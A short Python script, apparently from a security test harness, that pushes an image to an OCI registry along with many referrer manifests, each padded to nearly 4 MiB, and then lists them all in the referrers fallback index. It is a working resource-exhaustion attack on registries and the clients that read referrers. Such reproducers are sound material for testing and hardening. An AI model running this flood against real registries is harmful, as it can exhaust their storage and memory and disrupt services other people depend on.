# push_referrers.py ADDR REPO N: an image REPO:1 and N OCI 1.1 referrers of it, each a manifest
# of almost 4 MiB (its annotations), pushed by digest and listed in the fallback tag's index
# (sha256-<hex>) as ORAS does it; prints the image's digest.
import json, sys
from attacklib import *
addr, repo, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
img = push_image(addr, repo, "1", repo)
empty = upload(addr, repo, b"{}")
layer = b"an artifact"
upload(addr, repo, layer)
listed = []
for i in range(n):
    m = {"schemaVersion": 2, "mediaType": OCI_MANIFEST, "artifactType": "application/x.attack",
         "config": desc(EMPTY, b"{}"), "layers": [desc("application/x.attack", layer)],
         "subject": img, "annotations": {"n": str(i), "pad": ""}}
    room = (4 << 20) - 64 - len(json.dumps(m).encode())
    m["annotations"]["pad"] = "A" * room
    b = json.dumps(m).encode()
    assert len(b) <= 4 << 20
    put_manifest(addr, repo, "sha256:" + sha(b), OCI_MANIFEST, b)
    listed.append(desc(OCI_MANIFEST, b, artifactType="application/x.attack"))
idx = json.dumps({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": listed}).encode()
put_manifest(addr, repo, "sha256-" + img["digest"][7:], OCI_INDEX, idx)
print(img["digest"])
